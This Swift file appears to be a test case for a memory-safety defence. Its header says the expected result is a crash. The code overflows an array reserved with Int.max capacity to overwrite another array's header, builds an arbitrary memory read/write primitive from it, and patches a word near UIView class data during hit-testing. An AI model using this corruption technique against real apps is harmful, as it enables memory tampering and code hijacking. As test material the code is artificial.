// Attack: reserves room for more elements than there are addresses, and appends past the block.
// Exercise: 3
// Expect: crashed
// Held by: no block is smaller than the head of an array
import UIKit
final class Tiny {
    let mark: Int
    init(_ mark: Int) { self.mark = mark }
}
@MainActor enum Mem {
    static var wide: [Int] = []
    static var lists: [[Int]] = []
    static var tinies: [Tiny?] = []
    static var base: UInt = 0
    static var at = -1
    static func begin() {
        lists.reserveCapacity(2_000)
        tinies.reserveCapacity(2_001)
        for i in 0..<2_000 {
            tinies.append(Tiny(0x7777_0000 + i))
            lists.append(Array(repeating: i, count: 26))
        }
        tinies.append(Tiny(0x7777_0000 + 2_000))
        tinies[1_990] = nil
        wide.reserveCapacity(Int.max)
        for word in [0, 3, Int.max, -2] { wide.append(word) }
        for i in lists.indices where lists[i].count == Int.max { at = i }
        guard at >= 0 else { return }
        for j in 0..<200 {
            let i = lists[at][j] - 0x7777_0000
            guard tinies.indices.contains(i), let tiny = tinies[i] else { continue }
            base = UInt(bitPattern: ObjectIdentifier(tiny)) &+ 16 &- UInt(8 * j)
            break
        }
    }
    static subscript(a: UInt) -> Int {
        get { lists[at][Int((a &- base) >> 3)] }
        set { lists[at][Int((a &- base) >> 3)] = newValue }
    }
}
class BaseView: UIView {
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x22688
    static var old = 0
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.base == 0 { Mem.begin() }
        BaseView.old = Mem[BaseView.kinds]
        Mem[BaseView.kinds] = 0
        defer { Mem[BaseView.kinds] = BaseView.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[BaseView.kinds] = BaseView.old
        return super.point(inside: point, with: event)
    }
}
